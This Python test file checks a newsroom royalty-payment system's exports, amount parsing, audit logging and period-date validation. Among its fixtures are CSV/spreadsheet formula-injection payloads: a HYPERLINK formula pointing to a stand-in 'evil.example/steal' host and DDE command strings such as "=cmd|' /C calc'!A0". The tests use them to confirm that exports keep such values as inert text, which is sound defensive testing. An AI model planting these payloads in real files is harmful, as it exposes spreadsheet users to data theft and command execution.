"""What testers found wrong with the payment files and periods: text that a
spreadsheet would run as a formula, a period paying someone less than
nothing, amounts with decimals misread, sheet names cut mid-word,
commands that left no name in the audit log, and periods opened with dates
at the ends of the calendar or on which no rule applies."""

from __future__ import annotations

import csv
import getpass
import io
import re
import unicodedata
import zipfile

import pytest
from openpyxl import load_workbook

from appliance.cli import main
from appliance.db import transaction
from appliance.errors import UserError
from appliance.i18n import set_language
from appliance.spreadsheet import csv_cell, sheet_name
from newsroom.reports import export, registry
from newsroom.reports.registry import Column, Report, Table
from newsroom.royalties import exports, periods, rules
from newsroom.royalties.grading import Author, GradeInput
from newsroom.royalties.periods import Settings

ISSUER = "Cổng thông tin điện tử tỉnh An Giang"
LINK = '=HYPERLINK("http://evil.example/steal","Bấm vào đây")'
COMMAND = "=cmd|' /C calc'!A0"
BASE = "/admin/royalties"


def _grade(conn, item_id, kind, coefficient, who):
    transaction(conn, periods.grade_work, item_id,
                GradeInput(kind, coefficient * 100, [Author(who, 10_000)]), None)


def _formulas(book_bytes: bytes) -> list[str]:
    """Every formula element in the workbook's sheets, read from the XML."""
    found = []
    with zipfile.ZipFile(io.BytesIO(book_bytes)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                found += re.findall(rb"<f[ >].*?</f>", archive.read(name))
    return found


def _cells(book_bytes: bytes):
    book = load_workbook(io.BytesIO(book_bytes))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row]


# -- 1. formulas ------------------------------------------------------------------

@pytest.fixture
def hostile(conn, key, publish, add_contributor):
    """A locked November whose contributor, bank, story and remuneration line
    all hold text that starts like a formula."""
    set_language("vi")
    person = add_contributor(LINK, bank_account="0123456789012", bank_name=COMMAND)
    item = publish(LINK, "2026-11-10T08:00")
    _grade(conn, item.id, "news", 8, person.id)
    period = transaction(conn, lambda db: periods.open_period(
        db, "2026-11-01", "2026-11-30", pay_on="2026-12-05"))
    transaction(conn, periods.collect, period.id, Settings(), None)
    transaction(conn, lambda db: periods.add_line(db, period.id, person.id,
                                                  "remuneration", "=2+3",
                                                  amount=500_000))
    transaction(conn, periods.to_review, key, period.id, None)
    period = transaction(conn, periods.lock, period.id, None)
    return period, transaction(conn, periods.statements, key, period.id)


def test_the_payment_list_keeps_formula_like_text_as_text(hostile):
    period, statements = hostile
    body = exports.payment_list_xlsx(period, statements, ISSUER)

    assert _formulas(body) == []
    cells = _cells(body)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert {LINK, COMMAND, "=2+3"} <= values  # the exact text, kept
    # Figures are still numbers.
    assert 2_524_000 in values


def test_the_bank_list_quotes_text_that_starts_like_a_formula(hostile):
    period, statements = hostile
    rows = list(csv.reader(io.StringIO(
        exports.bank_transfer_csv(period, statements).decode("utf-8-sig"))))

    (row,) = rows[1:]
    assert row[2].startswith("'=HYPERLINK(")  # the holder, folded to capitals
    assert row[3] == "'" + COMMAND
    assert row[4] == "2524000"  # amounts are plain digits, not quoted
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_reports_keep_formula_like_text_as_text():
    set_language("vi")
    table = Table("works", "Tác phẩm", [Column("Tác phẩm"), Column("Lượt xem", "count"),
                                        Column("Chênh lệch", "count")],
                  [[LINK, 42, -3], ["+cmd|' /C calc'!A0", 1, 0], ["@SUM(1)", 2, 0],
                   ["-2+3", 3, 0], ["\t=1", 4, 0], ["#N/A", 5, 0]],
                  ["=Tổng", 54, -3])
    report = Report("production", "=Báo cáo", "2026-11-01", "2026-11-30", [table])

    body = export.to_xlsx(report)
    assert _formulas(body) == []
    values = [cell.value for cell in _cells(body) if cell.value is not None]
    assert {LINK, "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1", "#N/A", "=Tổng",
            "=Báo cáo"} <= set(values)
    assert 42 in values and -3 in values

    rows = list(csv.reader(io.StringIO(export.to_csv(report).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + LINK in cells and "'@SUM(1)" in cells and "'\t=1" in cells
    assert "'=Báo cáo" in cells and "'=Tổng" in cells
    assert "-3" in cells  # a negative number stays a number
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_the_production_report_from_the_command_line_writes_titles_as_text(
        data_dir, conn, publish, tmp_path, capsys):
    from web.pageviews import record_views

    item = publish(LINK, "2026-11-10T08:00")
    transaction(conn, record_views, [("2026-11-10", item.url, 5)])
    out = tmp_path / "production.xlsx"

    code = main(["report", "production", "--from", "2026-11-01", "--to", "2026-11-30",
                 "--format", "xlsx", "--out", str(out), "--data", str(data_dir)])
    assert code == 0, capsys.readouterr().err
    body = out.read_bytes()
    assert _formulas(body) == []
    assert LINK in {cell.value for cell in _cells(body)}


def test_csv_cells_quote_only_text_that_starts_a_formula():
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@A", "\tx", "\rx", "a=1", "",
                                  -5, 2.5, None)] == [
        "'=1", "'+1", "'-1", "'@A", "'\tx", "'\rx", "a=1", "", -5, 2.5, None]


# -- 2. a negative payment ---------------------------------------------------------------

@pytest.fixture
def taken_back(conn, key, publish, add_contributor):
    """November locked with a 30-coefficient reportage; in December the work is
    regraded to 1 (−7,337,000) and the person has 1,510,005 of other lines."""
    set_language("vi")
    an = add_contributor("Nguyễn Văn An", bank_account="0123456789012")
    binh = add_contributor("Trần Thị Bình", bank_account="9704229200001")
    item = publish("Phóng sự: mùa nước nổi", "2026-11-12T08:00")
    _grade(conn, item.id, "reportage", 30, an.id)
    november = transaction(conn, lambda db: periods.open_period(
        db, "2026-11-01", "2026-11-30"))
    transaction(conn, periods.collect, november.id, Settings(), None)
    transaction(conn, periods.to_review, key, november.id, None)
    transaction(conn, periods.lock, november.id, None)

    december = transaction(conn, lambda db: periods.open_period(
        db, "2026-12-01", "2026-12-31"))
    transaction(conn, periods.correct_work, december.id, item.id,
                GradeInput("reportage", 100, [Author(an.id, 10_000)]), None)
    transaction(conn, lambda db: periods.add_line(db, december.id, an.id, "remuneration",
                                                  "Biên tập chuyên mục",
                                                  amount=1_510_005))
    transaction(conn, lambda db: periods.add_line(db, december.id, binh.id,
                                                  "remuneration", "Ảnh", amount=300_000))
    assert transaction(conn, periods.payments, key, december)[an.id].net == -5_826_995
    return december


def _unchanged(conn, period_id: int) -> None:
    assert conn.execute("SELECT status FROM payment_period WHERE id = ?",
                        (period_id,)).fetchone()[0] == "open"
    assert conn.execute("SELECT count(*) FROM period_payment WHERE period_id = ?",
                        (period_id,)).fetchone()[0] == 0
    assert conn.execute("SELECT count(*) FROM audit WHERE action = 'period.review'"
                        " AND target = ?", (f"period:{period_id}",)).fetchone()[0] == 0


def test_a_period_that_would_pay_someone_less_than_nothing_is_not_reviewed(
        conn, key, taken_back):
    set_language("en")
    with pytest.raises(UserError) as refused:
        transaction(conn, periods.to_review, key, taken_back.id, None)

    message = str(refused.value)
    assert "Nguyễn Văn An: -5,826,995 đ" in message
    assert "Trần Thị Bình" not in message
    assert "later period" in message and "accounting office" in message
    _unchanged(conn, taken_back.id)


async def test_the_admin_refuses_the_review_with_the_name_and_amount(
        client, add_staff, sign_in, conn, taken_back):
    add_staff("editor-in-chief", "chief")
    chief = await sign_in("chief")
    await chief.post("/admin/language", {"lang": "en", "next": "/admin/"})

    response = await chief.post(f"{BASE}/periods/{taken_back.id}/review")

    assert response.status == 400
    html = await response.text()
    assert "Nguyễn Văn An: -5,826,995 đ" in html and "later period" in html
    _unchanged(conn, taken_back.id)


def test_the_command_line_refuses_the_review_in_one_line(data_dir, conn, taken_back,
                                                         capsys):
    code = main(["royalty", "period", "review", str(taken_back.id), "--data",
                 str(data_dir)])

    _out, err = capsys.readouterr()
    assert code != 0
    assert len(err.strip().splitlines()) == 1
    assert "Nguyễn Văn An" in err and "5.826.995" in err
    _unchanged(conn, taken_back.id)


# -- 3. amounts ------------------------------------------------------------------------

@pytest.mark.parametrize(("text", "value"), [
    ("1500000", 1_500_000), ("1.500.000", 1_500_000), ("1,500,000", 1_500_000),
    ("1 500 000", 1_500_000), ("1\u00a0500\u00a0000", 1_500_000), ("1.500", 1_500),
    ("-506.000", -506_000), ("2.530.000 đ", 2_530_000), ("2530000 VND", 2_530_000),
])
def test_whole_dong_are_read_plain_or_grouped_by_thousands(text, value):
    assert rules.parse_amount(text, "The amount") == value


@pytest.mark.parametrize("text", [
    "1000.5", "1500,50", "1.5", "1.500,000", "1 500.000", "1500.000", "1..000",
    "15.00.000", "1,5", "", "-", "abc", "1_000",
])
def test_decimals_and_odd_groups_are_refused_not_misread(text):
    set_language("en")
    with pytest.raises(UserError, match="whole number of đồng"):
        rules.parse_amount(text, "The amount")


async def test_the_lines_form_refuses_an_amount_with_decimals(
        client, add_staff, sign_in, conn, add_contributor):
    add_staff("editor-in-chief", "chief")
    person = add_contributor("Nguyễn Văn An")
    period = transaction(conn, lambda db: periods.open_period(
        db, "2026-12-01", "2026-12-31"))
    chief = await sign_in("chief")
    await chief.post("/admin/language", {"lang": "en", "next": "/admin/"})
    form = {"type": "remuneration", "contributor": str(person.id),
            "description": "Biên tập"}

    for typed in ("1000.5", "1500,50"):
        refused = await chief.post(f"{BASE}/periods/{period.id}/lines",
                                   form | {"amount": typed})
        assert refused.status == 400
        assert "whole number of đồng" in await refused.text()
    assert conn.execute("SELECT count(*) FROM period_line").fetchone()[0] == 0

    added = await chief.post(f"{BASE}/periods/{period.id}/lines",
                             form | {"amount": "1.500.000"})
    assert added.status == 303
    assert conn.execute("SELECT amount FROM period_line").fetchone()[0] == 1_500_000


# -- 4. sheet names ----------------------------------------------------------------------

def test_sheet_names_fit_between_words_and_the_title_heads_the_sheet(
        conn, publish, add_contributor):
    set_language("vi")
    from web.pageviews import record_views

    item = publish("Lúa Thu Đông", "2026-11-10T08:00")
    transaction(conn, record_views, [("2026-11-10", item.url, 5)])
    found = transaction(conn, registry.run, "production", "2026-11-01", "2026-11-30")
    book = load_workbook(io.BytesIO(export.to_xlsx(found)))

    by_title = {table.title: table for table in found.tables}
    assert len(book.sheetnames) == len(found.tables)
    for sheet in book.worksheets:
        title = sheet["A1"].value
        table = by_title[title]  # the full title in the first row
        assert len(sheet.title) <= 31
        if table.sheet:
            assert sheet.title == table.sheet
        else:
            assert title.startswith(sheet.title)
            assert len(title) == len(sheet.title) or title[len(sheet.title)] == " "
    views = by_title[next(t for t in by_title if t.startswith("Lượt xem"))]
    assert views.sheet == "Lượt xem"


def test_long_and_repeated_sheet_names_are_cut_between_words():
    used: set[str] = set()
    long = "Lượt xem theo tác phẩm (50 tác phẩm được đọc nhiều nhất)"
    assert sheet_name(long, used) == "Lượt xem theo tác phẩm (50 tác"
    assert sheet_name(long, used) == "Lượt xem theo tác phẩm (50 2"
    assert sheet_name("a/b: c?", used) == "a b c"
    khmer = "ចំនួនអ្នកមើលតាមស្នាដៃដែលត្រូវបានអានច្រើនបំផុត"
    cut = sheet_name(khmer, used)
    assert len(cut) <= 31 and khmer.startswith(cut)
    # Not before a vowel sign or another mark, nor after a coeng.
    assert unicodedata.category(khmer[len(cut)])[0] != "M" and cut[-1] != "\u17d2"
    assert sheet_name("ស្រ" * 12, used) == "ស្រ" * 10
    assert sheet_name("កក" + "ស្រ" * 12, used) == "កក" + "ស្រ" * 9


# -- 5. the audit log names whoever ran a command ------------------------------------

def test_commands_record_the_command_line_and_the_account_in_the_audit_log(
        data_dir, conn, key, publish, add_contributor, tmp_path, capsys):
    writer = add_contributor("Trần Thị Bình", bank_account="9704229200001")
    item = publish("Phóng sự biên giới", "2026-11-12T08:00")
    _grade(conn, item.id, "reportage", 30, writer.id)
    data = ["--data", str(data_dir)]

    assert main(["royalty", "period", "open", "--from", "2026-11-01", "--to",
                 "2026-11-30", *data]) == 0
    period = capsys.readouterr().out.strip()
    for step in ("collect", "review", "lock"):
        assert main(["royalty", "period", step, period, *data]) == 0
    assert main(["royalty", "export", period, "--file", "bank-transfers.csv", "--out",
                 str(tmp_path / "bank.csv"), *data]) == 0

    rows = conn.execute("SELECT action, user_id, address FROM audit WHERE target = ?",
                        (f"period:{period}",)).fetchall()
    assert {row["action"] for row in rows} == {
        "period.open", "period.collect", "period.review", "period.lock",
        "contributor.reveal"}
    assert {row["address"] for row in rows} == {f"cli:{getpass.getuser()}"}
    assert {row["user_id"] for row in rows} == {None}


# -- 6. absurd period dates -------------------------------------------------------------

def _periods(conn) -> int:
    return conn.execute("SELECT count(*) FROM payment_period").fetchone()[0]


def _stored_period(conn, starts: str, ends: str, pay_on: str,
                   salary_date: str = "publication") -> int:
    """A period stored as an older release let it be opened."""
    cur = conn.execute(
        "INSERT INTO payment_period (name, starts, ends, pay_on, salary_date, rounding,"
        " rounding_unit, created_at) VALUES ('Kỳ lạ', ?, ?, ?, ?, 'nearest', 1,"
        " '2026-12-01T00:00:00Z')", (starts, ends, pay_on, salary_date))
    conn.commit()
    return cur.lastrowid


def test_days_at_the_ends_of_the_calendar_do_not_overflow():
    assert rules.day_start_utc("2026-11-01") == "2026-10-31T17:00:00Z"
    assert rules.day_end_utc("2026-11-30") == "2026-11-30T17:00:00Z"
    assert rules.day_start_utc("0001-01-01") == "0001-01-01T00:00:00Z"
    assert rules.day_end_utc("9999-12-31") == "9999-12-31T17:00:00Z"


@pytest.mark.parametrize(("starts", "ends", "pay_on", "message"), [
    ("0001-01-01", "9999-12-31", "", "outside the years 1900 to 2999"),
    ("2026-11-01", "3000-01-01", "2026-12-05", "outside the years 1900 to 2999"),
    ("2026-11-01", "2026-11-30", "9999-12-31", "The payment date 9999-12-31 is outside"),
    ("2000-01-01", "2026-11-30", "", "at most ten years"),
])
def test_a_period_with_absurd_dates_is_not_opened(conn, starts, ends, pay_on, message):
    set_language("en")
    with pytest.raises(UserError, match=message):
        transaction(conn, lambda db: periods.open_period(db, starts, ends, pay_on=pay_on))
    assert _periods(conn) == 0


async def test_the_admin_refuses_absurd_dates_and_keeps_what_was_typed(
        client, add_staff, sign_in, conn):
    add_staff("editor-in-chief", "chief")
    chief = await sign_in("chief")
    await chief.post("/admin/language", {"lang": "en", "next": "/admin/"})

    refused = await chief.post(f"{BASE}/periods", {
        "starts": "0001-01-01", "ends": "9999-12-31", "pay_on": "9999-12-31",
        "name": "Cả lịch"})

    assert refused.status == 400
    html = await refused.text()
    assert "The first day 0001-01-01 is outside the years 1900 to 2999." in html
    assert 'value="0001-01-01"' in html and 'value="Cả lịch"' in html
    assert _periods(conn) == 0
    assert (await chief.get(f"{BASE}/works?month=9999-12")).status == 400
    assert (await chief.get(f"{BASE}/works?month=0001-01")).status == 400


def test_the_command_line_refuses_absurd_dates_in_one_line(data_dir, conn, capsys):
    code = main(["royalty", "period", "open", "--from", "0001-01-01", "--to",
                 "9999-12-31", "--data", str(data_dir)])

    _out, err = capsys.readouterr()
    assert code != 0
    assert len(err.strip().splitlines()) == 1
    assert "0001-01-01" in err and "1900" in err and "internal error" not in err
    assert _periods(conn) == 0


async def test_a_stored_period_of_absurd_dates_still_opens_and_collects(
        client, add_staff, sign_in, conn, data_dir, capsys):
    period = _stored_period(conn, "0001-01-01", "9999-12-31", "9999-12-31")
    add_staff("editor-in-chief", "chief")
    chief = await sign_in("chief")

    assert (await chief.get(f"{BASE}/periods/{period}")).status == 200
    assert (await chief.get(BASE)).status == 200
    code = main(["royalty", "period", "collect", str(period), "--data", str(data_dir)])
    _out, err = capsys.readouterr()
    assert code == 0, err
    assert "internal error" not in err and "OverflowError" not in err


# -- 7. dates no rule applies on ----------------------------------------------------------

@pytest.mark.parametrize(("starts", "ends", "pay_on", "salary_date", "message"), [
    ("2026-11-01", "2026-11-30", "1999-01-01", "publication",
     "No tax rule is in force on 1999-01-01, the payment date"),
    ("2024-01-01", "2024-01-31", "2024-02-05", "publication",
     "No base salary is in force on 2024-01-01, the first day"),
    ("2024-01-01", "2024-01-31", "2024-02-05", "approval",
     "No base salary is in force on 2024-01-01, the first day"),
    ("2024-07-01", "2024-07-31", "2024-06-30", "payment",
     "No base salary is in force on 2024-06-30, the payment date"),
])
def test_a_period_is_not_opened_on_dates_no_rule_applies_on(
        conn, starts, ends, pay_on, salary_date, message):
    set_language("en")
    with pytest.raises(UserError, match=message):
        transaction(conn, lambda db: periods.open_period(
            db, starts, ends, pay_on=pay_on, settings=Settings(salary_date=salary_date)))
    assert _periods(conn) == 0


def test_the_base_salary_is_looked_for_on_the_date_the_settings_pick(conn):
    # Paid with the base salary of the payment date, a period may start before
    # the first base salary; paid with that of publication, it may not.
    opened = transaction(conn, lambda db: periods.open_period(
        db, "2024-06-01", "2024-06-30", pay_on="2024-07-05",
        settings=Settings(salary_date="payment")))
    assert opened.pay_on == "2024-07-05"
    with pytest.raises(UserError):
        transaction(conn, lambda db: periods.open_period(
            db, "2024-06-01", "2024-06-30", pay_on="2024-07-05"))


async def test_the_admin_refuses_a_payment_date_without_a_tax_rule(
        client, add_staff, sign_in, conn):
    add_staff("editor-in-chief", "chief")
    chief = await sign_in("chief")
    await chief.post("/admin/language", {"lang": "en", "next": "/admin/"})

    refused = await chief.post(f"{BASE}/periods", {
        "starts": "2026-11-01", "ends": "2026-11-30", "pay_on": "1999-01-01"})

    assert refused.status == 400
    html = await refused.text()
    assert "No tax rule is in force on 1999-01-01, the payment date" in html
    assert 'value="1999-01-01"' in html
    assert _periods(conn) == 0


def test_the_command_line_refuses_a_payment_date_without_a_tax_rule(data_dir, conn,
                                                                     capsys):
    code = main(["royalty", "period", "open", "--from", "2026-11-01", "--to",
                 "2026-11-30", "--pay-on", "1999-01-01", "--data", str(data_dir)])

    _out, err = capsys.readouterr()
    assert code != 0
    assert len(err.strip().splitlines()) == 1
    assert "1999-01-01" in err and "internal error" not in err
    assert _periods(conn) == 0


@pytest.fixture
def one_bad_period(conn, key, publish, add_contributor):
    """A locked November paying 6,831,000 net, and a period stored by an older
    release with a payment date before the first tax rule."""
    person = add_contributor("Trần Thị Bình", bank_account="9704229200001")
    item = publish("Phóng sự biên giới", "2026-11-12T08:00")
    _grade(conn, item.id, "reportage", 30, person.id)
    november = transaction(conn, lambda db: periods.open_period(
        db, "2026-11-01", "2026-11-30", pay_on="2026-12-05"))
    transaction(conn, periods.collect, november.id, Settings(), None)
    transaction(conn, periods.to_review, key, november.id, None)
    transaction(conn, periods.lock, november.id, None)
    bad = _stored_period(conn, "2026-12-01", "2026-12-31", "1999-01-01")
    return november.id, bad


async def test_a_stored_period_no_rule_applies_to_does_not_take_the_pages_down(
        client, add_staff, sign_in, one_bad_period):
    november, bad = one_bad_period
    add_staff("editor-in-chief", "chief")
    chief = await sign_in("chief")
    await chief.post("/admin/language", {"lang": "en", "next": "/admin/"})

    overview = await chief.get(BASE)
    assert overview.status == 200
    html = await overview.text()
    assert "6,831,000" in html  # the good period keeps its figures
    assert "No tax rule is in force on 1999-01-01, the payment date" in html
    page = await chief.get(f"{BASE}/periods/{bad}")
    assert page.status == 200
    html = await page.text()
    assert "No tax rule is in force on 1999-01-01" in html
    assert "delete it and open it again" in html
    assert (await chief.get(f"{BASE}/periods/{november}")).status == 200


def test_the_period_list_shows_a_period_no_rule_applies_to(data_dir, one_bad_period,
                                                           capsys):
    november, bad = one_bad_period

    code = main(["royalty", "period", "list", "--data", str(data_dir)])

    out, err = capsys.readouterr()
    assert code == 0, err
    rows = {line.split()[0]: line for line in out.splitlines()[1:]}
    assert "6,831,000" in rows[str(november)]
    assert "1999-01-01" in rows[str(bad)] and "—" in rows[str(bad)]
